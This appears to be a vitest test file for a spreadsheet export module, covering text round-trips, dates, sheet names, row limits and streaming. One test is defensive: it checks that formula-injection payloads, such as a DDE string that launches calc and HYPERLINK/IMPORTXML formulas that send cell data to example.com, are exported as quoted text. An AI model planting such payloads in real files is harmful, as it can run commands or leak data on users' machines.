import { inflateRawSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import type { SheetValue } from '#core/sheet-cell.ts';
import { readWorkbook } from './read-workbook.ts';
import { workbookBytes, writeWorkbook } from './write-workbook.ts';
import { readZipDirectory } from './zip-directory.ts';

const text = (value: string): SheetValue => ({ kind: 'text', text: value });

async function roundTrip(rows: SheetValue[][], timeZone?: string) {
  const columns = (rows[0] ?? []).map((_, n) => ({ title: `Column ${n}` }));
  const bytes = await workbookBytes({ sheets: [{ name: 'Goods', columns, rows }], timeZone });
  return { bytes, sheet: (await readWorkbook(bytes)).sheets[0] };
}

function partOf(bytes: Uint8Array, name: string): string {
  const entry = readZipDirectory(bytes, 20).find((part) => part.name === name);
  return entry ? inflateRawSync(entry.packed).toString() : '';
}

/** Beginnings that a spreadsheet program runs when they are typed, and what attackers put behind them. */
const BEGINNINGS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', ' ='];
const PAYLOADS = [
  '1+1',
  'HYPERLINK("http://example.com?x="&A1,"Click")',
  "cmd|' /C calc'!A0",
  'SUM(1+1)*cmd|x!A0',
  'IMPORTXML(CONCAT("http://example.com/",A1),"//a")',
];

describe('nothing that is exported is ever a formula', () => {
  const hostile = BEGINNINGS.flatMap((beginning) => PAYLOADS.map((payload) => beginning + payload));

  test('forty payloads come back as the texts they were, marked as quoted', async () => {
    expect(hostile).toHaveLength(40);
    const { bytes, sheet } = await roundTrip(hostile.map((payload) => [text(payload)]));
    expect(sheet?.rows.slice(1).map(([cell]) => cell)).toEqual(
      hostile.map((payload) => ({ kind: 'text', text: payload })),
    );
    const xml = partOf(bytes, 'xl/worksheets/sheet1.xml');
    expect(xml).not.toContain('<f');
    expect(xml.match(/ s="2"/g)).toHaveLength(40);
    expect(partOf(bytes, 'xl/styles.xml').match(/<xf [^>]*>/g)?.[3]).toContain('quotePrefix="1"');
  });

  test('neither is a heading', async () => {
    const bytes = await workbookBytes({ sheets: [{ name: '=1', columns: [{ title: '=1+1' }], rows: [] }] });
    expect((await readWorkbook(bytes)).sheets[0]?.rows[0]).toEqual([{ kind: 'text', text: '=1+1' }]);
  });
});

describe('what is written is read again', () => {
  test.each([
    ['letters and marks', 'Kitunguu “chekundu” <&> \' " 中文 😀'],
    ['lines and tabs', 'first\nsecond\r\nthird\tend'],
    ['spaces at the ends', '  Sukari '],
    ['control characters', 'a\u0000b\u000bc'],
    ['a text that looks like an escape', '_x0041_ and _x005F_'],
    ['a long number', '06165461070802'],
  ])('%s', async (_, value) => {
    expect((await roundTrip([[text(value)]])).sheet?.rows[1]).toEqual([{ kind: 'text', text: value }]);
  });

  test('a sheet is filled to its last row, and never beyond', async () => {
    const sheetOf = (count: number) => ({
      name: 'Sales',
      columns: [{ title: 'No' }],
      rows: Array.from({ length: count }, (_, n) => [text(`${n}`)]),
    });
    const full = await workbookBytes({ sheets: [sheetOf(3)], rowsOfASheet: 4 });
    expect((await readWorkbook(full)).sheets[0]?.rows).toHaveLength(4);
    await expect(workbookBytes({ sheets: [sheetOf(4)], rowsOfASheet: 4 })).rejects.toMatchObject({
      code: 'sheet_full',
      status: 409,
    });
  });

  test('half a letter pair becomes a sign, never a broken file', async () => {
    expect((await roundTrip([[text('a\ud800b')]])).sheet?.rows[1]).toEqual([
      { kind: 'text', text: 'a\ufffdb' },
    ]);
  });

  test('numbers, days and instants by the clock of the branch', async () => {
    const { sheet } = await roundTrip(
      [
        [
          { kind: 'number', number: 1250.5, decimals: 2 },
          { kind: 'date', date: '2027-09-30' },
          { kind: 'datetime', at: '2026-11-20T21:30:00.000Z' },
          { kind: 'blank' },
          { kind: 'date', date: '1900-01-01' },
        ],
      ],
      'Africa/Dar_es_Salaam',
    );
    expect(sheet?.rows[1]).toMatchObject([
      { kind: 'number', number: 1250.5, shown: '1,250.50' },
      { kind: 'date', date: '2027-09-30', text: '2027-09-30' },
      { kind: 'date', date: '2026-11-21T00:30:00', text: '2026-11-21 00:30' },
      undefined,
      { kind: 'date', date: '1900-01-01' },
    ]);
  });
});

test('the heading is bold and stays in sight', async () => {
  const { bytes } = await roundTrip([[text('Sukari')]]);
  const xml = partOf(bytes, 'xl/worksheets/sheet1.xml');
  expect(xml).toContain('<pane ySplit="1" topLeftCell="A2"');
  expect(xml).toContain('<c r="A1" t="inlineStr" s="1">');
  expect(partOf(bytes, 'xl/styles.xml')).toContain('<xf numFmtId="49" fontId="1"');
});

test('sheet names are made fit and differ', async () => {
  const sheet = { columns: [{ title: 'Name' }], rows: [] };
  const names = ['Stock: [2026]', 'a'.repeat(40), 'a'.repeat(40), '', 'NAME', 'name'];
  const bytes = await workbookBytes({ sheets: names.map((name) => ({ name, ...sheet })) });
  expect((await readWorkbook(bytes)).sheets.map(({ name }) => name)).toEqual([
    'Stock   2026',
    'a'.repeat(31),
    `${'a'.repeat(27)} 3`,
    '4',
    'NAME',
    'name 6',
  ]);
});

test('a hundred thousand rows leave in pieces while they are made', { timeout: 60_000 }, async () => {
  let made = 0;
  async function* rows(): AsyncGenerator<SheetValue[]> {
    for (; made < 100_000; made += 1)
      yield [text(`Product ${made}`), { kind: 'number', number: made, decimals: 2 }];
  }
  const columns = [{ title: 'Name' }, { title: 'Price' }];
  const before = process.memoryUsage().rss;
  let madeAtFirstPiece = 0;
  let bytes = 0;
  for await (const piece of writeWorkbook({ sheets: [{ name: 'Goods', columns, rows: rows() }] })) {
    bytes += piece.length;
    if (bytes > 100_000) madeAtFirstPiece ||= made;
  }
  expect(made).toBe(100_000);
  expect(madeAtFirstPiece).toBeGreaterThan(0);
  expect(madeAtFirstPiece).toBeLessThan(50_000);
  expect((process.memoryUsage().rss - before) / 1024 / 1024).toBeLessThan(150);
});

test('a failure of the rows ends the export with that failure', async () => {
  // biome-ignore lint/correctness/useYield: it fails before its first row
  async function* rows(): AsyncGenerator<SheetValue[]> {
    throw new Error('database away');
  }
  const sheet = { name: 'Goods', columns: [{ title: 'Name' }], rows: rows() };
  await expect(workbookBytes({ sheets: [sheet] })).rejects.toThrow('database away');
});
